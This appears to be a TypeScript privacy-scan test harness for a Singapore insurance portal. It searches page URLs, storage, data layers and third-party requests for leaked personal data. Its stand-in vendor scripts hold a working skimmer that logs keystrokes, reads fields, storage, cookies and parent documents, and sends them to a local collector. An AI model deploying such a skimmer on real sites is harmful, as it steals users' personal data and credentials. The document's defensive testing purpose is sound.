import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';

/**
 * The privacy scan (docs/security.md, "Personal data"): everything a page exposes
 * outside the API's encrypted fields, searched for the customer's secrets.
 *
 * Places: every URL (requested, navigated, or set through the history API, with query and fragment),
 * every session and local storage write and snapshot (the encrypted access token aside), every request to a
 * third-party origin (URL, headers and body), every data layer entry, and, for identity values only, the
 * bodies of the portal's own API calls (they must carry those values RSA-encrypted), and every monitoring payload
 * the portal sends (the batches to its monitoring endpoint, and what the collector received).
 */

export type PlaceKind = 'url' | 'storage' | 'third-party request' | 'data layer' | 'api body' | 'monitoring';
export const PLACE_KINDS: readonly PlaceKind[] = [
  'url',
  'storage',
  'third-party request',
  'data layer',
  'api body',
  'monitoring',
];

/** The portal's own monitoring endpoint in the privacy preview (the sandbox's collector, docs/sandbox.md). */
export const MONITORING_ENDPOINT = '/sandbox/monitoring';

export interface Secret {
  /** What it is, for the report: "C-1001 NRIC". */
  name: string;
  /** Every spelling searched for, compared case-insensitively, also against the URL-decoded text. */
  spellings: string[];
  /** Places where the value may legitimately appear (a payor's contact details go to the insurer's API). */
  allowedIn?: PlaceKind[];
}

export interface Place {
  kind: PlaceKind;
  where: string;
  text: string;
}

export interface Finding {
  secret: string;
  spelling: string;
  kind: PlaceKind;
  where: string;
  excerpt: string;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const LONG_MONTHS = [
  'January',
  'February',
  'March',
  'April',
  'May',
  'June',
  'July',
  'August',
  'September',
  'October',
  'November',
  'December',
];

/** A date of birth in every spelling a leak could take, Singapore midnight as a UTC instant included. */
export function dateSpellings(iso: string): string[] {
  const [y, m, d] = iso.split('-') as [string, string, string];
  const month = Number(m) - 1;
  const sgtMidnight = Date.UTC(Number(y), month, Number(d)) - 8 * 3600_000;
  const utcMidnight = Date.UTC(Number(y), month, Number(d));
  return [
    `${d}/${m}/${y}`,
    `${d}-${m}-${y}`,
    `${d}.${m}.${y}`,
    `${d} ${m} ${y}`,
    `${d}${m}${y}`,
    `${y}-${m}-${d}`,
    `${y}/${m}/${d}`,
    `${y}${m}${d}`,
    `${Number(d)} ${MONTHS[month]} ${y}`,
    `${Number(d)} ${LONG_MONTHS[month]} ${y}`,
    `${MONTHS[month]} ${Number(d)}, ${y}`,
    new Date(sgtMidnight).toISOString().slice(0, 16), // the same day as a Date serialised in UTC
    String(sgtMidnight),
    String(utcMidnight),
    String(sgtMidnight / 1000),
    String(utcMidnight / 1000),
  ];
}

/** A Singapore mobile number as typed, stored or formatted. */
export function phoneSpellings(e164: string): string[] {
  const digits = e164.replace(/\D/g, '').replace(/^65/, '');
  const [a, b] = [digits.slice(0, 4), digits.slice(4)];
  return [`+65 ${a} ${b}`, `+65${digits}`, `65${digits}`, `+65-${a}-${b}`, digits, `${a} ${b}`, `${a}-${b}`];
}

/** A card number grouped as people and gateways write it. */
export function cardSpellings(typed: string): string[] {
  const digits = typed.replace(/\D/g, '');
  const groups =
    digits.length === 15 ? [digits.slice(0, 4), digits.slice(4, 10), digits.slice(10)] : digits.match(/.{1,4}/g)!;
  return [digits, groups.join(' '), groups.join('-')];
}

export function idSpellings(id: string): string[] {
  return [id, id.slice(0, -1), id.slice(1)]; // the check letter or the prefix dropped still identifies
}

export function emailSpellings(email: string): string[] {
  return [email, email.replace('@', '%40')];
}

/** Any NRIC/FIN-shaped or email-shaped value, whoever's: not only the seeded ones. */
const SHAPES: readonly { name: string; pattern: RegExp }[] = [
  { name: 'any NRIC/FIN', pattern: /(?<![a-z0-9])[stfgm]\d{7}[a-z](?![a-z0-9])/i },
  { name: 'any email address', pattern: /[a-z0-9._%+-]+(?:@|%40)[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}/i },
];

function safeDecode(text: string): string {
  try {
    return decodeURIComponent(text.replace(/\+/g, ' '));
  } catch {
    return text;
  }
}

/** The sessionStorage key whose value is the AES-encrypted access token: the one value the scan skips. */
const ENCRYPTED_TOKEN_KEY = 'accessToken';

export class PrivacyScan {
  private readonly places = new Map<string, Place>();
  private readonly tokens = new Set<string>();
  /** The AES-encrypted access token as stored: never recorded as a place, but searched for in every place. */
  private readonly encryptedTokens = new Set<string>();
  readonly secrets: Secret[] = [];

  constructor(
    /** The portal's origin: requests anywhere else are third-party requests. */
    private readonly portalOrigin: string,
    secrets: Secret[],
  ) {
    this.secrets.push(...secrets);
  }

  add(kind: PlaceKind, where: string, text: string): void {
    if (text) this.places.set(`${kind}\n${text}`, { kind, where, text });
  }

  /** Records everything the page exposes from now on; call before its first navigation. */
  async watch(page: Page): Promise<void> {
    await page.exposeBinding(
      '__privacyRecord',
      (_source, kind: PlaceKind | 'encrypted token', where: string, text: string) =>
        kind === 'encrypted token' ? this.encryptedTokens.add(text) : this.add(kind, where, text),
    );
    await page.addInitScript(`(${instrument.toString()})(${JSON.stringify(ENCRYPTED_TOKEN_KEY)})`);
    page.on('framenavigated', (frame) => this.add('url', 'navigation', frame.url()));
    page.on('request', (request) => {
      const url = request.url();
      if (url.startsWith('data:')) return;
      this.add('url', `${request.method()} request`, url);
      const origin = new URL(url).origin;
      const headers = request.headers();
      if (origin !== this.portalOrigin) {
        this.add(
          'third-party request',
          `${request.method()} ${url}`,
          `${url}\n${JSON.stringify(headers)}\n${request.postData() ?? ''}`,
        );
      } else if (new URL(url).pathname === MONITORING_ENDPOINT && request.method() === 'POST') {
        this.add('monitoring', `beacon ${MONITORING_ENDPOINT}`, request.postData() ?? '');
      } else if (new URL(url).pathname.startsWith('/rs/')) {
        // The token the scan looks for: whatever bearer the portal sends its own API.
        const bearer = /^Bearer (.+)$/.exec(headers.authorization ?? '')?.[1];
        if (bearer) this.tokens.add(bearer);
        this.add('api body', `${request.method()} ${new URL(url).pathname}`, request.postData() ?? '');
      }
    });
  }

  /** A snapshot of storage, cookies and the whole data layer as the page holds them now. */
  async step(page: Page, label: string): Promise<void> {
    const now = await page.evaluate((tokenKey) => {
      const session = { ...sessionStorage } as Record<string, string>;
      delete session[tokenKey];
      return {
        session,
        local: { ...localStorage },
        cookie: document.cookie,
        dataLayer: window.dataLayer ?? [],
      };
    }, ENCRYPTED_TOKEN_KEY);
    for (const [area, values] of [
      ['session', now.session],
      ['local', now.local],
    ] as const) {
      for (const [key, value] of Object.entries(values))
        this.add('storage', `${label}: ${area}Storage.${key}`, `${key}=${value}`);
    }
    this.add('storage', `${label}: document.cookie`, now.cookie);
    now.dataLayer.forEach((entry, i) => this.add('data layer', `${label}: dataLayer[${i}]`, JSON.stringify(entry)));
    this.add('url', `${label}: location`, page.url());
  }

  /** The seeded secrets plus every token the portal was issued during the scan, as sent and as stored. */
  allSecrets(): Secret[] {
    const tokens = [...this.tokens].map((token) => ({
      name: 'access or guest token',
      spellings: [token, token.replace(/^sbx\./, '')],
    }));
    const stored = [...this.encryptedTokens].map((token) => ({ name: 'encrypted access token', spellings: [token] }));
    return [...this.secrets, ...tokens, ...stored];
  }

  allPlaces(): Place[] {
    return [...this.places.values()];
  }

  findings(): Finding[] {
    const found: Finding[] = [];
    const secrets = this.allSecrets();
    for (const place of this.places.values()) {
      const texts = [place.text, safeDecode(place.text)];
      const lower = texts.map((t) => t.toLowerCase());
      for (const secret of secrets) {
        if (secret.allowedIn?.includes(place.kind)) continue;
        for (const spelling of secret.spellings) {
          const at = lower.findIndex((t) => t.includes(spelling.toLowerCase()));
          if (at >= 0)
            found.push(finding(secret.name, spelling, place, texts[at]!, lower[at]!.indexOf(spelling.toLowerCase())));
        }
      }
      if (place.kind === 'api body') continue; // the API legitimately receives a payor's email; the seeded values cover it
      for (const shape of SHAPES) {
        for (const text of texts) {
          const match = shape.pattern.exec(text);
          if (match) {
            found.push(finding(shape.name, match[0], place, text, match.index));
            break;
          }
        }
      }
    }
    return found;
  }

  /** "values × places" for the report: each secret (and shape) against each distinct place recorded. */
  figure(): { values: number; spellings: number; places: number; byKind: Record<PlaceKind, number>; checks: number } {
    const secrets = this.allSecrets();
    const values = secrets.length + SHAPES.length;
    const places = this.places.size;
    const byKind = Object.fromEntries(PLACE_KINDS.map((k) => [k, 0])) as Record<PlaceKind, number>;
    for (const p of this.places.values()) byKind[p.kind] += 1;
    return {
      values,
      spellings: secrets.reduce((n, s) => n + s.spellings.length, 0) + SHAPES.length,
      places,
      byKind,
      checks: values * places,
    };
  }
}

function finding(secret: string, spelling: string, place: Place, text: string, index: number): Finding {
  return {
    secret,
    spelling,
    kind: place.kind,
    where: place.where,
    excerpt: text.slice(Math.max(0, index - 60), index + spelling.length + 60),
  };
}

/**
 * Runs in the page before its own scripts (Playwright init script; it is not subject to the page's CSP):
 * reports every history change, every storage write and every data layer push as it happens, so a value
 * written and removed between two snapshots, or a data layer lost to a full navigation, is still seen.
 */
function instrument(tokenKey: string): void {
  const w = window as unknown as {
    __privacyRecord?: (kind: string, where: string, text: string) => void;
    dataLayer?: unknown[];
  };
  const record = (kind: string, where: string, text: string) => {
    try {
      void w.__privacyRecord?.(kind, where, text);
    } catch {
      /* the page is going away */
    }
  };
  const url = (how: string) => record('url', how, location.href);
  for (const method of ['pushState', 'replaceState'] as const) {
    const original = history[method];
    history[method] = function (this: History, ...args: Parameters<History['pushState']>) {
      const result = original.apply(this, args);
      url(`history.${method}`);
      return result;
    };
  }
  addEventListener('popstate', () => url('popstate'));
  addEventListener('hashchange', () => url('hashchange'));
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function (this: Storage, key: string, value: string) {
    const area = this === window.sessionStorage ? 'sessionStorage' : 'localStorage';
    if (!(area === 'sessionStorage' && key === tokenKey))
      record('storage', `${area}.setItem(${key})`, `${key}=${value}`);
    else if (value) record('encrypted token', 'sessionStorage', value);
    return setItem.call(this, key, value);
  };
  const layer = (w.dataLayer ??= []);
  const push = layer.push;
  layer.push = function (this: unknown[], ...entries: unknown[]) {
    for (const entry of entries) record('data layer', 'dataLayer.push', JSON.stringify(entry));
    return push.apply(this, entries);
  };
}

// ---------------------------------------------------------------------------------------------------------
// Third-party stand-ins: the four configurable scripts, served from their own origin. Each does what its real
// counterpart does with the page, and also what a compromised version of it would: it reads whatever the document
// it runs in lets it read and sends it home. What any of them sends off the page is seen as requests.

export const STAND_IN_KEYS = ['domLibraryUrl', 'feedbackSdkUrl', 'tagManagerUrl', 'monitoringUrl'] as const;
type StandInKey = (typeof STAND_IN_KEYS)[number];
const FILES: Record<StandInKey, string> = {
  domLibraryUrl: 'dom-library.js',
  feedbackSdkUrl: 'feedback-sdk.js',
  tagManagerUrl: 'tag-manager.js',
  monitoringUrl: 'monitoring.js',
};
/** The vendor files that never change carry an integrity hash; the tag manager's file changes, so it has none. */
const FIXED: readonly StandInKey[] = ['domLibraryUrl', 'feedbackSdkUrl', 'monitoringUrl'];

/**
 * What a compromised vendor file tries, in whichever document it runs: listeners for typing, every field's value and
 * the page's text (on every change and every 300 ms), both storages, the cookies, the portal's configuration
 * global, and the parent's and top's documents. Whatever it reads goes home as `kind=loot`; a document that refuses
 * is recorded as such (`… refused: SecurityError`). A heartbeat on load proves it ran.
 */
const HOSTILE = `var loot = {}, sent = {}, watched = {};
  function take(where, value) {
    if (value === undefined || value === null || value === '' || value === '{}') return;
    loot[where] = typeof value === 'string' ? value : JSON.stringify(value);
  }
  function read(name, doc) {
    var fields = doc.querySelectorAll('input, textarea, select');
    for (var i = 0; i < fields.length; i++) take(name + ' field ' + (fields[i].name || fields[i].id || i), fields[i].value);
    take(name + ' text', doc.body ? doc.body.innerText : '');
    if (watched[name]) return;
    watched[name] = true;
    var keys = '';
    doc.addEventListener('keydown', function (e) { keys += e.key; take(name + ' keys', keys); }, true);
    ['input', 'change'].forEach(function (type) {
      doc.addEventListener(type, function (e) { var t = e.target || {}; take(name + ' ' + type + ' ' + (t.name || t.id), t.value); }, true);
    });
    new MutationObserver(function () { read(name, doc); })
      .observe(doc, { subtree: true, childList: true, characterData: true, attributes: true });
  }
  function attempt(where, get) {
    try { get(); } catch (e) { take(where + ' refused', String(e && e.name)); }
  }
  function sweep() {
    attempt('sessionStorage', function () { take('sessionStorage', JSON.stringify(sessionStorage)); });
    attempt('localStorage', function () { take('localStorage', JSON.stringify(localStorage)); });
    attempt('cookie', function () { take('cookie', document.cookie); });
    take('__PORTAL_CONFIG__', window.__PORTAL_CONFIG__);
    attempt('document', function () { read('document', document); });
    attempt('parent.document', function () { read('parent', parent.document); });
    attempt('top.document', function () { read('top', top.document); });
    var changed = {}, any = false;
    for (var k in loot) if (loot[k] !== sent[k]) { changed[k] = sent[k] = loot[k]; any = true; }
    if (any) send('loot', changed);
  }
  send('heartbeat', { where: location.pathname });
  sweep();
  setInterval(sweep, 300);`;

function standInScript(file: string, origin: string): string {
  const send = `function send(kind, data) {
    fetch(${JSON.stringify(origin)} + '/collect/${file}?kind=' + kind + '&dl=' + encodeURIComponent(location.href), {
      method: 'POST', mode: 'cors', keepalive: true, body: JSON.stringify(data)
    }).catch(function () {});
  }`;
  const body: Record<string, string> = {
    // Shared DOM helpers: a global and a load ping with the page (as a CDN-hosted library's analytics would).
    'dom-library.js': `window.InsurerDom = { version: 'stand-in' }; send('load', { title: document.title });`,
    // A tag manager: every data layer entry (those before it loaded too), with the page's address and title,
    // and a page view on every history change, as a GA4 tag with enhanced measurement sends.
    'tag-manager.js': `var dl = window.dataLayer = window.dataLayer || [];
      dl.forEach(function (e) { send('event', { entry: e, title: document.title }); });
      var push = dl.push;
      dl.push = function () {
        for (var i = 0; i < arguments.length; i++) send('event', { entry: arguments[i], title: document.title });
        return push.apply(dl, arguments);
      };
      var last = location.href;
      setInterval(function () { if (location.href !== last) { last = location.href; send('page_view', { title: document.title, referrer: document.referrer }); } }, 200);`,
    // A feedback widget: the page it was opened on (the data layer's entry), and its own form, whose answer it sends.
    'feedback-sdk.js': `(window.dataLayer || []).forEach(function (e) { send('opened', { entry: e }); });
      // Its answer goes by script, as widgets' do: the frame is sandboxed without allow-forms.
      var form = document.createElement('div'), label = document.createElement('label'), box = document.createElement('textarea'), go = document.createElement('button');
      label.textContent = 'How was your visit?'; label.htmlFor = box.id = 'comment'; go.textContent = 'Send feedback'; go.type = 'button';
      form.append(label, box, go);
      go.addEventListener('click', function () { send('feedback', { comment: box.value }); form.textContent = 'Thank you'; });
      document.body.append(form);`,
    // Monitoring: errors, console warnings as breadcrumbs, and every resource the page loads (its URL,
    // query string included), in batches, as RUM and error trackers do.
    'monitoring.js': `var batch = [];
      new PerformanceObserver(function (list) {
        list.getEntries().forEach(function (e) { batch.push({ type: e.entryType, name: e.name, ms: Math.round(e.duration) }); });
      }).observe({ type: 'resource', buffered: true });
      addEventListener('error', function (e) { batch.push({ type: 'error', message: String(e.message), url: location.href }); });
      addEventListener('unhandledrejection', function (e) { batch.push({ type: 'rejection', reason: String(e.reason) }); });
      ['error', 'warn', 'info', 'log'].forEach(function (level) {
        var original = console[level];
        console[level] = function () {
          batch.push({ type: 'console', level: level, args: Array.prototype.map.call(arguments, String) });
          return original.apply(console, arguments);
        };
      });
      setInterval(function () { if (batch.length) { send('batch', { url: location.href, title: document.title, items: batch.splice(0) }); } }, 300);`,
  };
  return `(function () { ${send}\n${body[file]}\n${HOSTILE}\nwindow.__standIns = (window.__standIns || 0) + 1; })();\n`;
}

export interface StandIns {
  origin: string;
  /** For the preview's `thirdParty` configuration. */
  config: Record<StandInKey, string>;
  /** For `thirdPartyIntegrity`: the fixed files' hashes (the tag manager has none). */
  integrity: Partial<Record<StandInKey, string>>;
  /** What the stand-ins' host received: one line per request (file, query, body). */
  received: string[];
  close(): Promise<void>;
}

export async function startThirdPartyStandIns(): Promise<StandIns> {
  const received: string[] = [];
  const scripts = new Map<string, string>();
  const server: Server = createServer((req, res) => {
    const cors = {
      'Access-Control-Allow-Origin': '*',
      'Access-Control-Allow-Headers': '*',
      'Cache-Control': 'no-store',
    };
    const path = new URL(req.url ?? '/', 'http://x').pathname.slice(1);
    const script = scripts.get(path);
    if (req.method === 'GET' && script) {
      res.writeHead(200, { ...cors, 'Content-Type': 'text/javascript; charset=utf-8' });
      res.end(script);
      return;
    }
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      if (req.method === 'POST') received.push(`${req.url}\n${Buffer.concat(chunks).toString()}`);
      res.writeHead(req.method === 'POST' || req.method === 'OPTIONS' ? 204 : 404, cors);
      res.end();
    });
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  for (const file of Object.values(FILES)) scripts.set(file, standInScript(file, origin));
  const config = Object.fromEntries(STAND_IN_KEYS.map((k) => [k, `${origin}/${FILES[k]}`])) as StandIns['config'];
  const integrity = Object.fromEntries(
    FIXED.map((k) => [k, `sha384-${createHash('sha384').update(scripts.get(FILES[k])!).digest('base64')}`]),
  );
  return { origin, config, integrity, received, close: () => new Promise((done) => server.close(() => done())) };
}

/** The files that sent a heartbeat among `received` lines (each stand-in sends one wherever it starts). */
export function heartbeats(received: readonly string[]): string[] {
  const files = received.map((line) => /^\/collect\/([\w-]+\.js)\?kind=heartbeat/.exec(line)?.[1]).filter(Boolean);
  return [...new Set(files as string[])].sort();
}

/**
 * Waits until the three background stand-ins run in one of the page's documents (the vendor frame, or the page itself
 * where a portal loads them there; the feedback SDK loads only when its form is asked for) and have had time to send
 * what they collected.
 */
export async function standInsSettled(page: Page): Promise<void> {
  const running = async () => {
    for (const frame of page.frames()) {
      const count = await frame
        .evaluate(() => (window as unknown as { __standIns?: number }).__standIns ?? 0)
        .catch(() => 0);
      if (count === 3) return true;
    }
    return false;
  };
  for (let waited = 0; !(await running()); waited += 100) {
    if (waited > 15_000) throw new Error('the three background third-party stand-ins never ran');
    await page.waitForTimeout(100);
  }
  await page.waitForTimeout(800); // the stand-ins send in 200-300 ms ticks
}
